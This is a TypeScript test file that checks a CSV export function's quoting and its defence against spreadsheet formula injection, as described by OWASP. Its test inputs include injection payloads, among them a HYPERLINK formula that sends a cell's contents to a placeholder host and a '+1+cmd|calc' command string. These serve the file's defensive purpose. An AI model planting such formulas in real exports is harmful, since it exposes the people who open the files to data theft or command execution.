import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';

import { csvLine } from '../../../src-main/data/exporters.js';

/** What a spreadsheet or CSV reader gets back from one line. */
const cells = (line: string): string[] => (parse(line, { relax_column_count: true }) as string[][])[0]!;

describe('csvLine', () => {
  it('quotes commas, quotes and line breaks as RFC 4180 asks, and reads back unchanged', () => {
    const fields = ['plain', 'a, b', 'say "no"', 'two\nlines', ''];
    expect(csvLine(fields)).toBe('plain,"a, b","say ""no""","two\nlines",');
    expect(cells(csvLine(fields))).toEqual(fields);
  });

  // OWASP, "CSV Injection": cells a spreadsheet would evaluate start with =, +, -, @, tab or CR.
  it.each([
    ['=HYPERLINK("http://example.invalid/?x="&A1,"open")', `"'=HYPERLINK(""http://example.invalid/?x=""&A1,""open"")"`],
    ['+1+cmd|calc', "'+1+cmd|calc"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
  ])('writes the text cell %j with a leading apostrophe', (value, written) => {
    expect(csvLine(['id-1', value])).toBe(`id-1,${written}`);
    expect(cells(csvLine(['id-1', value]))).toEqual(['id-1', `'${value}`]);
  });

  it('leaves numbers, and text with a formula character later on, as they are', () => {
    expect(csvLine([-0.25, 3, 'a=b', 'e-mail', 'x@y'])).toBe('-0.25,3,a=b,e-mail,x@y');
  });
});
